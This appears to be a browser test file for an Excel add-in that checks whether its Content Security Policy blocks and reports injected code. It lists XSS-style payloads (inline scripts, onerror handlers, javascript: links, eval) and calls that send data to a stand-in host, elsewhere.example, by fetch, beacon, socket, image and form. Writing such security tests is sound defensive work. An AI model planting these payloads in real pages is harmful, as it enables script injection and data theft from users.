/**
 * The content policy at work in a real browser: what an attacker would put into a page does not run, and is reported; and
 * a violation anywhere in the preview fails the test that opened it. The attacks are put in by the test's own hand,
 * which no policy restricts; what they try to run is restricted.
 */
import type { BrowserContext, Frame } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { serve } from "../../manifest/build/serve.mjs";
import { eventually, expectNoProblems, openPreview, theBrowser } from "./browser";

const ELSEWHERE = "https://elsewhere.example";

interface Attacked {
  /** What the attack ran. */
  ran?: string;
  /** The directives that refused something. */
  refused: string[];
}

interface Attack {
  /** The directive that refuses it. */
  directive: string;
  code: string;
}

const put = (element: string, set: string) =>
  `const made = document.createElement("${element}"); ${set}; document.body.append(made);`;

const SCRIPTS: Record<string, Attack> = {
  "an inline script": {
    directive: "script-src-elem",
    code: put("script", `made.textContent = "attacked.ran = 'inline'"`),
  },
  "a script of data": {
    directive: "script-src-elem",
    code: put("script", `made.src = "data:text/javascript,attacked.ran='data'"`),
  },
  "a script from elsewhere": { directive: "script-src-elem", code: put("script", `made.src = "${ELSEWHERE}/a.js"`) },
  "an inline handler": {
    directive: "script-src-attr",
    code: `${put("button", `made.setAttribute("onclick", "attacked.ran = 'handler'")`)} made.click(); made.remove();`,
  },
  "a picture's error handler": {
    directive: "script-src-attr",
    code: put("p", `made.innerHTML = "<img src='nowhere.png' onerror=\\"attacked.ran = 'error'\\">"`),
  },
  "a javascript: link": {
    directive: "script-src-elem",
    code: `${put("a", `made.href = "javascript:void (attacked.ran = 'link')"`)} made.click(); made.remove();`,
  },
  "evaluated text": { directive: "script-src", code: `try { eval("attacked.ran = 'eval'"); } catch {}` },
  "a function made of text": {
    directive: "script-src",
    code: `try { new Function("attacked.ran = 'Function'")(); } catch {}`,
  },
  "a timer given text": { directive: "script-src", code: `setTimeout("attacked.ran = 'timer'", 0);` },
  "a worker from memory": {
    directive: "worker-src",
    code: `try { new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage = () => { attacked.ran = "worker"; }; } catch {}`,
  },
};

const CARRIERS: Record<string, Attack> = {
  "a request elsewhere": {
    directive: "connect-src",
    code: `fetch("${ELSEWHERE}/?price=4200").then(() => { attacked.ran = "fetch"; }, () => {});`,
  },
  "a beacon elsewhere": { directive: "connect-src", code: `navigator.sendBeacon("${ELSEWHERE}/", "price=4200");` },
  "a socket elsewhere": {
    directive: "connect-src",
    code: `try { new WebSocket("wss://elsewhere.example/"); } catch {}`,
  },
  "a picture elsewhere": { directive: "img-src", code: `new Image().src = "${ELSEWHERE}/?price=4200";` },
  "a frame of elsewhere": { directive: "frame-src", code: put("iframe", `made.src = "${ELSEWHERE}/"`) },
  "a plug-in": { directive: "object-src", code: put("object", `made.data = "${ELSEWHERE}/a.swf"`) },
  "a form": {
    directive: "form-action",
    code: `${put("form", `made.action = "${ELSEWHERE}/"`)} made.submit(); made.remove();`,
  },
  "another base of links": { directive: "base-uri", code: put("base", `made.href = "${ELSEWHERE}/"`) },
};

const STYLES: Record<string, Attack> = {
  "an inline style sheet": { directive: "style-src-elem", code: put("style", `made.textContent = "p { color: red }"`) },
  "a style attribute": { directive: "style-src-attr", code: put("p", `made.setAttribute("style", "color: red")`) },
  "a style sheet from elsewhere": {
    directive: "style-src-elem",
    code: put("link", `made.rel = "stylesheet"; made.href = "${ELSEWHERE}/a.css"`),
  },
};

/** The client library is not in the shipped pane's folder; this is as much of it as lets the pane wait for Excel. */
const CLIENT = `
  window.Office = { onReady: () => new Promise(() => {}), actions: { associate() {} } };
  window.CustomFunctions = { associate() {}, Error: class extends Error {} };`;

let served: Awaited<ReturnType<typeof serve>>;
let context: BrowserContext;
let asked: string[];

beforeAll(async () => {
  served = await serve({ port: 0 });
});
afterAll(async () => {
  await served.close();
  expectNoProblems();
});
beforeEach(async () => {
  asked = [];
  context = await (await theBrowser()).newContext();
  await context.route("https://appsforoffice.microsoft.com/**", (route) =>
    route.fulfill({ contentType: "text/javascript", body: CLIENT }),
  );
  await context.route(`${ELSEWHERE}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: "text/html", headers: { "Access-Control-Allow-Origin": "*" }, body: "there" });
  });
});
afterEach(() => context.close());

/** Takes the policy's header away, as a host that sends none. */
const withoutHeader = () =>
  context.route(`${served.url}/**`, async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": _, ...headers } = response.headers();
    await route.fulfill({ response, headers });
  });

async function open(path: string): Promise<Frame> {
  const page = await context.newPage();
  await page.addInitScript(() => {
    const attacked: Attacked = { refused: [] };
    Object.assign(globalThis, { attacked });
    document.addEventListener("securitypolicyviolation", (event) => attacked.refused.push(event.effectiveDirective));
  });
  await page.goto(served.url + path);
  return page.mainFrame();
}

const seenBy = (frame: Frame) => frame.evaluate<Attacked>("attacked");

async function expectRefused(frame: Frame, attacks: Record<string, Attack>): Promise<void> {
  for (const [name, { directive, code }] of Object.entries(attacks)) {
    const before = (await seenBy(frame)).refused.length;
    // In a timer it runs as code of the page, no longer as the test's own.
    await frame.evaluate(`setTimeout(() => { ${code} }, 0)`);
    await eventually(async () => (await seenBy(frame)).refused.slice(before), name).toContain(directive);
  }
  // What was refused has had time to run while the others were tried; a last moment for the last of them.
  await frame.waitForTimeout(200);
  expect((await seenBy(frame)).ran).toBeUndefined();
  expect(asked).toEqual([]);
}

describe("the shipped pane", () => {
  it("starts without a violation", async () => {
    const frame = await open("/pane.html");
    await frame.waitForTimeout(500);
    expect((await seenBy(frame)).refused).toEqual([]);
  });

  it("runs no code, sends nothing and takes no style that is not its own", async () => {
    await expectRefused(await open("/pane.html"), { ...SCRIPTS, ...CARRIERS, ...STYLES });
  });

  it("does so on a host that sends no header, by the policy in the page", async () => {
    await withoutHeader();
    await expectRefused(await open("/pane.html"), { ...SCRIPTS, ...CARRIERS, ...STYLES });
  });

  it("would have run them without a policy, so the attacks are real ones", async () => {
    await context.route(`${served.url}/pane.html`, (route) =>
      route.fulfill({ contentType: "text/html", body: "<!doctype html><title>No policy</title><body></body>" }),
    );
    for (const [name, { code }] of Object.entries(SCRIPTS)) {
      if (name === "a script from elsewhere") continue;
      const frame = await open("/pane.html");
      await frame.evaluate(`setTimeout(() => { ${code} }, 0)`);
      await eventually(async () => (await seenBy(frame)).ran, name).toBeTypeOf("string");
      await frame.page().close();
    }
    const frame = await open("/pane.html");
    await frame.evaluate(`setTimeout(() => { ${CARRIERS["a request elsewhere"]!.code} }, 0)`);
    await eventually(async () => (await seenBy(frame)).ran).toBe("fetch");
    expect(asked).toEqual([`${ELSEWHERE}/?price=4200`]);
  });

  it("is shown in no frame of a page that is not Excel's", async () => {
    await context.route("http://elsewhere.example/", (route) =>
      route.fulfill({ contentType: "text/html", body: `<iframe src="${served.url}/pane.html"></iframe>` }),
    );
    const page = await context.newPage();
    await page.goto("http://elsewhere.example/");
    await eventually(() => page.frames()[1]?.url()).toContain("chrome-error:");
  });
});

describe("the preview", () => {
  it("runs no code and sends nothing that is not its own, in the page around the grid", async () => {
    await expectRefused(await open("/preview/"), { ...SCRIPTS, ...CARRIERS });
  });

  it("fails the test that opened it when an inline script is put into its pane", async () => {
    const preview = await openPreview({ fresh: true });
    expect(preview.problems).toEqual([]);
    const pane = preview.page.frames().find((frame) => frame.url().includes("/preview/pane.html"))!;
    await pane.evaluate(`setTimeout(() => { window.attacked = {}; ${SCRIPTS["an inline script"]!.code} }, 0)`);
    await eventually(() => preview.problems.join(" ")).toMatch(/inline script.*Content Security Policy/i);
    expect(await pane.evaluate("attacked.ran")).toBeUndefined();
    await expect(preview.close()).rejects.toThrow("policy violations");
  });
});
